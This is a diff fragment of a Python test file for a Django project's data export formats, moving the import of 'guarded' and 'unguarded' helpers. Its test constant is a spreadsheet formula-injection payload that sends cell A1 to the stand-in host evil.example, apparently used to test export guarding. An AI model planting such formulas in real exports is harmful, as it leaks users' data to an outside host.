@@ -7,8 +7,9 @@ import json
 import pytest
 from django.core.exceptions import ValidationError
 
+from enrichment.sheets import guarded, unguarded
 from jobs.exchange import formats
-from jobs.exchange.formats import Csv, Json, JsonLines, Tsv, guarded, unguarded
+from jobs.exchange.formats import Csv, Json, JsonLines, Tsv
 
 HEADERS = ["title", "description"]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
